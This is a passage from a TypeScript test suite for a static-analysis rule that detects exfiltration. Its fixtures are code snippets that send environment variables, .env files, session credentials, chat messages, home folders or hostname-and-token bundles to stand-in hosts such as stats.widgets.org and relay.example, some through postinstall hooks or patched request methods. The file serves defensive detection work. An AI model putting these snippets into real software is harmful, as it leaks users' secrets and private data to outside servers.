    'requests.get("https://x.org/a", params={"a": os.environ == q, "b": os.environ is None, "c": "K" not in os.environ})',
    'requests.get("https://x.org/a", params={"a": os.environ and q})',
    'h = 1 if os.environ else 2\n    requests.post("https://x.org/a", json=h)',
  ]) assert.equal(worstOf(code), 'nothing', code);
  for (const code of [
    'requests.post("https://x.org/a", json=dict(os.environ) if "HF_TOKEN" in os.environ else {})',
    'requests.post("https://x.org/a", json=("HF_TOKEN" in os.environ) and dict(os.environ))',
    'requests.post("https://x.org/a", json=(not q) or dict(os.environ))',
    'requests.post("https://x.org/a", json={} if q else dict(os.environ))',
    'requests.post("https://x.org/a", json=[k + v for k, v in os.environ.items() if k in q])',
    'len = dict\n    requests.post("https://x.org/a", json=len(os.environ))',
    'def len(x): return x\n    requests.post("https://x.org/a", json=len(os.environ))',
    'class A:\n        def __eq__(self, other): return other\n    requests.post("https://x.org/a", json=A() == dict(os.environ))',
  ]) assert.equal(worstOf(code), 'critical', code);
});

test('a program or thread that is started is not made of the environment that it gets', () => {
  for (const code of [
    'const { Worker } = require("worker_threads"); const w = new Worker(file, { env: { ...process.env, A: "1" } }); w.on("message", (r) => { fetch(r.url) })',
    'import * as threads from "node:worker_threads"; const w = new threads.Worker(file, { env: process.env }); w.on("message", (r) => fetch(url, { body: r }))',
    'const c = require("child_process").spawn(program, [], { env: process.env }); c.stdout.on("data", (d) => fetch(url, { body: d }))',
  ]) assert.equal(worst(code), 'nothing', code);
  for (const code of [
    'const { Worker } = require("worker_threads"); const w = new Worker(file, { workerData: process.env }); w.on("message", (r) => { fetch(r.url) })',
    'class Worker { constructor(file, { env }) { this.env = env } } const w = new Worker(file, { env: process.env }); fetch(url, { body: w.env })',
    'const pack = (o) => JSON.stringify(o.env); fetch(url, { body: pack({ env: process.env }) })',
    'fetch(url, { body: JSON.stringify({ env: process.env }) })',
  ]) assert.equal(worst(code), 'critical', code);
});

test('of a function that gives back what it gets, a call gets what it passes and not what others do', () => {
  const wait = 'async function wait(promise, signal) { if (!signal) return await promise; return await new Promise((done) => { promise.then(done) }) }';
  assert.equal(worst(`${wait} async function run() { await wait(open(process.env)); await wait(fetch(await wait(next(), s))) }`), 'nothing');
  const abortable = 'async function wait(promise, signal) { return await new Promise((done, fail) => { signal.onabort = fail; promise.then((value) => { signal.onabort = null; done(value) }, fail) }) }';
  assert.equal(worst(`${abortable} async function run() { await wait(open(process.env), s); await wait(fetch(await wait(next(), s)), s) }`), 'nothing');
  for (const code of [
    `${abortable} const all = async () => process.env; async function run() { await wait(fetch(url, { body: await wait(all(), s) }), s) }`,
    `${wait} async function run() { await wait(fetch(url, { body: await wait(process.env) })) }`,
    'const same = (x) => x; const copy = same; fetch(url, { body: copy(process.env) })',
    'function filled(x) { x.all = process.env; return x } fetch(url, { body: filled({}) })',
    'function other(x) { x = process.env; return x } fetch(url, { body: other(1) })',
    'function last(...all) { return all } fetch(url, { body: last(1, process.env) })',
  ]) assert.equal(worst(code), 'critical', code);
});

test('a connection to this computer is opened with whatever is asked for; what is sent elsewhere, or written, counts', () => {
  const net = (given: string): string => worst(`const all = JSON.stringify(process.env); require("net").connect(${given})`);
  for (const given of ['{ path: all }', '{ host: "localhost", port: all }', '"/run/" + all', '`\\\\\\\\.\\\\pipe\\\\${all}`', 'all.length + all, "localhost"']) assert.equal(net(given), 'nothing', given);
  for (const given of ['{ host: "example.org", path: all }', '{ host, path: all }', '{ ...options, path: all }', '{ port: 80, path: all }', '80, all', 'all', '"//example.org/" + all']) assert.equal(net(given), 'critical', given);
  assert.equal(worst('const s = require("net").connect("/run/a"); s.write(JSON.stringify(process.env))'), 'critical');
  assert.equal(worst('require("http").get({ path: "/" + JSON.stringify(process.env) })'), 'critical');
});

test('what an editor keeps for itself and for other extensions', () => {
  const read = (folder: string, send = 'fetch("https://sync.widgets.org/v1", { method: "POST", body: JSON.stringify(all) })') => `const fs = require("fs"), path = require("path"); exports.activate = async (context) => { const folder = ${folder}; const all = { settings: "" }; all.settings = fs.readFileSync(path.join(folder, "settings.json"), "utf8"); ${send} }`;
  for (const folder of ['path.resolve(context.globalStorageUri.fsPath, "..", "..")', 'path.join(context.globalStoragePath, "../..")', 'path.dirname(context.globalStorageUri.fsPath)', 'vscode.Uri.joinPath(context.globalStorageUri, "..").fsPath', 'path.dirname(path.dirname(context.storageUri.fsPath))']) assert.equal(worst(read(folder)), 'high', folder);
  for (const code of [
    read('path.join(context.globalStorageUri.fsPath, "cache")'),
    read('path.join(context.extensionPath, "..")'),
    read('path.dirname(context.globalStorageUri.fsPath)', 'fetch(server, { method: "POST", body: JSON.stringify(all) })'),
    read('path.dirname(context.globalStorageUri.fsPath)', 'show(all); fetch("https://sync.widgets.org/v1")'),
  ]) assert.equal(worst(code), 'nothing', code);
});

test('in Python: a client that tells somebody else the logins of its callers', () => {
  const client = (send: string, start = 'self._tell(url, kwargs)') => worst(`import requests\nimport threading\nclass RetrySession(requests.Session):\n    def request(self, method, url, **kwargs):\n        ${start}\n        return super().request(method, url, **kwargs)\n    def _tell(self, url, kwargs):\n        record = {"url": url, "auth": kwargs.get("auth") or self.auth, "cookies": self.cookies.get_dict()}\n        ${send}\n\ndef ship(record):\n    requests.post("https://stats.widgets.org/v2", json=record)\n`, 'a.py');
  for (const send of ['ship(record)', 'threading.Thread(target=ship, args=(record,), daemon=True).start()', 'pool.submit(ship, record)', 'requests.post("https://stats.widgets.org/v2", json=record)']) assert.equal(client(send), 'high', send);
  assert.equal(worst('import requests\nask = requests.Session.request\ndef wrapped(self, method, url, **kw):\n    requests.post("https://stats.widgets.org/v2", json={"u": url, "a": kw.get("auth")})\n    return ask(self, method, url, **kw)\nrequests.Session.request = wrapped\n', 'a.py'), 'high');
  for (const send of ['ship({"url": record["url"], "ms": 5})', 'ship(len(record))', 'log(record)', 'requests.post(self.server, json=record)', 'requests.post("https://api.widgets.org/token", data={"refresh": self.refresh}, auth=self.auth)']) assert.notEqual(client(send, 'pass'), 'high', send);
  assert.equal(worst('import requests\nclass Api(requests.Session):\n    def refresh(self):\n        r = requests.post("https://api.widgets.org/token", headers={"Authorization": self.headers["Authorization"]})\n        self.headers["Authorization"] = r.json()["token"]\n', 'a.py'), 'nothing');
});

test('in Python: all variables, handed to a function that sends them', () => {
  const send = 'import os, requests, threading\ndef ship(what, level=1):\n    requests.post("https://stats.widgets.org/v2", json=what)\n';
  for (const call of ['ship(dict(os.environ))', 'ship(level=2, what=dict(os.environ))', 'threading.Thread(target=ship, args=(dict(os.environ),)).start()']) assert.equal(worst(`${send}${call}\n`, 'a.py'), 'critical', call);
  for (const call of ['ship({"version": 1})', 'run(dict(os.environ))', 'ship(level=os.environ)']) assert.equal(worst(`${send}${call}\n`, 'a.py'), 'nothing', call);
});

test('bad: what methods and getters of a class answer', () => {
  for (const code of [
    'class A { get all() { return Object.entries(process.env) } send() { fetch(u, { body: JSON.stringify(this.all) }) } }',
    'class A { #all() { return { ...process.env } } send() { fetch(u, { body: JSON.stringify(this.#all()) }) } }',
    'class A { get context() { return process.env } start() { this.tell({ context: this.context }) } tell(what) { return fetch(this.address, { body: JSON.stringify(what) }) } }',
  ]) assert.equal(worst(code), 'critical', code);
  for (const code of [
    'class A { get mode() { return process.env.NODE_ENV } send() { fetch(u, { body: this.mode }) } }',
    'class A { get all() { return process.env } } class B { get all() { return [] } send() { fetch(u, { body: this.all }) } }',
    'class A { get all() { return process.env } send() { fetch(u, { body: this.name }) } }',
    `class A { get all() { return process.env } send() { fetch(u, { body: this.all }) } ${Array.from({ length: 100 }, (_, i) => `m${i}() {}`).join(' ')} }`,
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: in Python, settings of a project over a connection that names its server', () => {
  const send = (open: string, connect: string) => worst(`import glob, http.client, socket\n${open}\n${connect}\n`, 'a.py');
  const http = 'c = http.client.HTTPSConnection("in.example.org", timeout=3)\nc.request("POST", "/", body)';
  assert.equal(send('body = open(".env").read()', http), 'high');
  assert.equal(send('body = "".join(open(p).read() for p in glob.glob(root + "/.env*"))', http), 'high');
  assert.equal(send('body = open("/app/.env.local").read()', 's = socket.create_connection(("in.example.org", 443))\ns.sendall(body)'), 'high');
  assert.equal(send('body = open(".env").read()', http.replace('"in.example.org"', 'settings.host')), 'nothing', 'to whom the settings say');
  assert.equal(send('body = open(".env").read()', http.replace('in.example.org', 'localhost')), 'nothing');
  assert.equal(send('body = open("data.json").read()', http), 'nothing');
});

test('good: a function of another script looks up single variables, as those for proxies do', () => {
  const send = (take: string) => `const https = require("https"); const { proxyFor } = require("./proxy"); exports.get = (url) => { const proxy = proxyFor(url, ${take}); https.request(proxy, { path: url.href }) }`;
  const proxy = `exports.proxyFor = proxyFor; function proxyFor(url, env = process.env) { if (!asks(url, env)) return null; return read([url.protocol + "_proxy", "all_proxy"], env) } function asks(url, env) { return !read(["no_proxy"], env).includes(url.host) } function read(names, env) { for (const name of names) for (const one of [name.toLowerCase(), name.toUpperCase()]) if (env[one]) return env[one]; return "" }`;
  const of = (other: string, take = 'process.env', more: Record<string, string> = {}) => findingsOf(rule, { 'index.js': send(take), 'proxy.js': other, ...more })[0]?.severity ?? 'nothing';
  assert.equal(of(proxy), 'nothing');
  assert.equal(of(`Object.defineProperty(exports, "__esModule", { value: true }); exports.port = void 0; exports.port = 1; ${proxy}`), 'nothing');
  assert.equal(of(proxy.replace('exports.proxyFor = proxyFor;', '').replace('function proxyFor', 'export function proxyFor')), 'nothing');
  for (const other of [
    'exports.proxyFor = (url, env) => JSON.stringify(env)',
    'exports.proxyFor = (url, env) => { const all = {}; for (const name in env) all[name] = env[name]; return all }',
    'exports.proxyFor = (url, env) => Object.keys(env).map((name) => env[name])',
    'exports.proxyFor = (url, env) => pack(env); function pack(all) { return [...Object.entries(all)] }',
    `${proxy} proxyFor = (url, env) => ({ ...env })`,
    `${proxy} exports["proxyFor"] = (url, env) => ({ ...env })`,
    `${proxy} this.proxyFor = (url, env) => ({ ...env })`,
    `${proxy} module.exports = require("./other")`,
    `${proxy} Object.assign(exports, { proxyFor: JSON.stringify })`,
    `${proxy} function two() { function proxyFor(url, env) { return env.HTTP_PROXY } }`.replace('{ if (!asks', '{ return [env]; if (!asks'),
    proxy.replace('["no_proxy"]', '["AWS_SECRET_ACCESS_KEY"]'),
  ]) assert.equal(of(other), 'critical', other);
  assert.equal(of(proxy, 'Object.assign({}, process.env)'), 'critical');
  assert.equal(of(proxy, 'process.env', { 'more.js': 'require("./proxy").proxyFor = (url, env) => ({ ...env })' }), 'critical');
  assert.equal(findingsOf(rule, { 'index.js': 'const { pick } = require("./pick"); require("https").request("https://in.example.org", { headers: pick(process.env, ["NPM_TOKEN", "AWS_SECRET_ACCESS_KEY"]) })', 'pick.js': 'exports.pick = (env, names) => names.map((name) => env[name])' })[0]?.severity, 'critical', 'keys of two owners');
});

test('what a module reads of the environment by a list is those variables; the rest of it, and what a function is handed, is the whole', () => {
  const severity = (code: string): string => findingsOf(rule, { 'a.js': `import s from "schema";\n${code}` })[0]?.severity ?? 'nothing';
  for (const code of [
    'const env = s.object({ URL: s.text() }).parse(process.env); fetch(env.URL);',
    'const List = s.object({ URL: s.text(), "KEY": s.text().optional() }).strict(); const { KEY } = List.parse(process.env); fetch("https://a.example", { body: KEY });',
    'const env = s(process.env, { URL: s.text() }); fetch(env.URL);',
    'function read() { return s.loose({ URL: s.text() }).parse(process.env); } function all(given) { const env = read(); return { at: { url: given || env.URL } }; } fetch(all(x).at.url);',
  ]) assert.equal(severity(code), 'nothing', code);
  for (const code of [
    'const env = s.object({ URL: s.text() }).parse(process.env); fetch("https://a.example", { body: JSON.stringify(env) });',
    'const env = s.loose({ URL: s.text() }).parse(process.env); fetch("https://a.example", { body: env.other });',
    'const env = s.object({ URL: s.text() }).transform((env) => ({ URL: JSON.stringify(env) })).parse(process.env); fetch("https://a.example", { body: env.URL });',
    'const own = { parse: (env) => ({ URL: JSON.stringify(env) }) }; fetch("https://a.example", { body: own.parse(process.env).URL });',
    'function all() { const out = {}; for (const name in process.env) out[name] = process.env[name]; return { URL: out }; } fetch("https://a.example", { body: JSON.stringify(all().URL) });',
    'function all(given) { return { url: "https://a.example", all: given }; } fetch("https://a.example", { body: JSON.stringify(all(process.env).all) });',
  ]) assert.equal(severity(code), 'critical', code);
});

test('what went into one part of an object is not in another one, where both are written', () => {
  const severity = (code: string): string => findingsOf(rule, { 'a.js': `const o = make(); o.a.b = JSON.stringify(process.env);\n${code}` })[0]?.severity ?? 'nothing';
  const sent = (value: string): string => `fetch("https://a.example", { body: ${value} })`;
  for (const code of [sent('o.a.c'), sent('o.d')]) assert.equal(severity(code), 'nothing', code);
  for (const code of [sent('o.a.b'), sent('o.a'), sent('o'), sent('o.a[name]'), sent('o.a.b.length')]) assert.equal(severity(code), 'critical', code);
  for (const put of ['o.a[name] = process.env', 'o.a.push(process.env)', 'o.a.c.d = process.env']) assert.equal(findingsOf(rule, { 'a.js': `const o = make(); ${put};\n${sent('o.a.c')}` })[0]?.severity, 'critical', put);
});

test('something is handed to a server when the package is installed', () => {
  const severities = (text: string, scripts = { postinstall: 'node a.js' }) => findingsOf(rule, { 'a.js': text }, { original: { scripts } }).map(({ severity }) => severity);
  const zip = 'const pack = require("archiver")("zip"); const r = require("https").request("https://up.example/p", { method: "POST" }); pack.pipe(r); pack.glob("**/*.js", { cwd: process.env.INIT_CWD }); pack.finalize();';
  assert.deepEqual(severities(zip), ['high']);
  assert.deepEqual(severities(zip, { test: 'node a.js' } as never), []);
  assert.deepEqual(severities('require("https").get("https://dl.example/a.tar.gz", (r) => r.pipe(out))'), []);
  assert.deepEqual(severities('fetch("http://localhost:9000/x", { method: "POST", body: pack() })'), []);
});

test('a name in a text is the text that it is given', () => {
  const worstOf = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
  assert.equal(worstOf('const base = `https://${"stats"}.example/${version}`; fetch(`${base}/k`, { headers: { k: process.env.NPM_TOKEN } })'), 'high');
  assert.equal(worstOf('const base = `https://npm.pkg.github.com/${name}`; fetch(`${base}/k`, { headers: { k: process.env.NPM_TOKEN } })'), 'nothing');
});

test('what a library of chats hears, and folders that are copied to a server', () => {
  const severity = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
  const bot = (body: string) => `const makeWASocket = require("@whiskeysockets/baileys").default; const s = makeWASocket({}); s.ev.on("messages.upsert", async (m) => { ${body} });`;
  assert.equal(severity(bot('await fetch("https://relay.example/u", { method: "POST", body: JSON.stringify(m.messages) })')), 'high');
  for (const body of ['await fetch(settings.url, { method: "POST", body: JSON.stringify(m.messages) })', 'await s.sendMessage(m.messages[0].key.remoteJid, { text: "hi" })']) assert.equal(severity(bot(body)), 'nothing', body);
  const ftp = (path: string) => `const { Client } = require("basic-ftp"), os = require("os"), path = require("path"); const c = new Client(); await c.access({ host: "ftp.example", user: "u", password: word }); await c.uploadFromDir(${path}, "in")`;
  assert.equal(severity(ftp('path.join(os.homedir(), "Documents")')), 'high');
  for (const path of ['"dist"', 'path.join(os.homedir(), "site", "out")', 'process.argv[2]']) assert.equal(severity(ftp(path)), 'nothing', path);
});

test('a key beside the names of the computer, an address of its own, and all variables in a repository', () => {
  const severity = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
  assert.equal(severity('const os = require("os"); fetch("https://q.example/r", { method: "POST", body: JSON.stringify({ h: os.hostname(), u: os.userInfo().username, t: process.env.NPM_TOKEN }) })'), 'high');
  const found = (address: string) => `const os = require("os"); const { ip } = await (await fetch("${address}")).json(); await fetch("https://t.example/i", { method: "POST", body: JSON.stringify({ ip, u: os.userInfo().username }) })`;
  assert.deepEqual(['https://ipinfo.io/json', 'https://api.ipify.org/?format=json', 'https://api.weather.example/here'].map((address) => severity(found(address))), ['high', 'high', 'low']);
  const kept = (content: string) => `const { Octokit } = require("@octokit/rest"); const o = new Octokit({ auth: token }); await o.repos.createOrUpdateFileContents({ owner, repo, path: "data.json", content: ${content} })`;
  assert.deepEqual(['Buffer.from(JSON.stringify(process.env)).toString("base64")', 'text'].map((content) => severity(kept(content))), ['critical', 'nothing']);
});
